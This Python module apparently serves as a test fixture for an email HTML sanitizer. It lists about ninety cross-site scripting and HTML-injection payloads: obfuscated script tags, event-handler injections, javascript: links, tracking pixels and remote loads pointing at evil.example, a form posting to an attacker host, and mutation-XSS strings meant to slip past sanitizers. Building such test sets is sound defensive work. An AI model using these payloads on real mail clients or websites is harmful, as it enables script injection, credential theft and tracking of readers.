"""HTML that attacks whoever reads the mail."""

SCRIPTS = (
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example></sCrIpT>", "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>", "<template><script>1</script></template>",
    "<plaintext><script>1", "<textarea><script>1</script>", "<!--[if IE]><script>1</script><![endif]-->",
    "<!--><script>alert(1)</script>-->", "<!--!><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
    "<xmp><script>1</script></xmp><script>2</script>", "<title><script>1</script></title><script>2</script>",
    "<noembed><script>1</script></noembed>", "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1) />", "<math><script>alert(1)</script></math>",
)  # fmt: skip
HANDLERS = (
    "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<details open ontoggle=alert(1)>",
    "<x onclick=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video src=//evil.example autoplay onplay=alert(1)>",
    "<audio src onerror=alert(1)>", "<body onload=alert(1)>", "<a href=https://x.example onmouseover=alert(1)>x</a>",
    "<p onpointerenter=alert(1)>x", "<img/src=x/onerror=alert(1)>", "<img src=x onerror\n=\nalert(1)>",
    "<img src='x' ONERROR='alert(1)'>", "<marquee onstart=alert(1)>x</marquee>", "<b style=x onclick=alert(1)>b</b>",
    "<table><td onclick=alert(1)>x", "<img src=`x` onerror=alert(1)>", "<img \x0bsrc=x onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
)  # fmt: skip
LINKS = (
    '<a href="javascript:alert(1)">x</a>', '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;&#97;vascript:alert(1)">x</a>', '<a href="java\nscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>1</script>">x</a>', '<a href="vbscript:x">x</a>', '<a href="/logout">x</a>',
    '<a href="//evil.example">x</a>', '<a href="?delete=1">x</a>', '<a href="file:///etc/passwd">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>', '<a href="blob:x">x</a>', '<a href="&colon;javascript:x">x</a>',
    '<a href="\\\\evil.example\\x">x</a>', '<area href="javascript:alert(1)">', '<form action="//evil.example"><input name=p>',
    '<button formaction="javascript:alert(1)">x</button>', '<math href="javascript:alert(1)">x</math>',
)  # fmt: skip
REMOTE = (
    '<img src="http://tracker.example/1.gif">', '<img src="https://tracker.example/1.gif">', "<img src=//t.example/1>",
    '<img srcset="http://tracker.example/1.gif 2x">', '<table background="//evil.example">',
    '<div style="background:url(//evil.example)">x</div>', '<style>@import "//evil.example"</style>',
    "<link rel=stylesheet href=//evil.example>", "<base href=//evil.example>", "<object data=//evil.example>",
    "<embed src=//evil.example>", "<iframe src=//evil.example></iframe>", '<iframe srcdoc="<script>1</script>">',
    '<meta http-equiv=refresh content="0;url=//evil.example">', "<video poster=//evil.example>", "<source src=//e.example>",
    '<input type=image src="//evil.example">', "<bgsound src=//evil.example>", '<svg><image href="//evil.example"/></svg>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
)  # fmt: skip
MUTATIONS = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<p id=x name=y class=z>x</p><a id="location" name="cookie">x</a>',
    '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
    '<table><svg><style><img src=x onerror=alert(1)></style></svg></table>',
    '<isindex action=javascript:1 type=image>', '<a href="https://x.example" target=_self ping=//evil.example>x</a>',
    '<img alt="<script>alert(1)</script>" src=x>', "&lt;script&gt;alert(1)&lt;/script&gt;<u onclick=x>u</u>",
)  # fmt: skip

PAYLOADS = (*SCRIPTS, *HANDLERS, *LINKS, *REMOTE, *MUTATIONS)
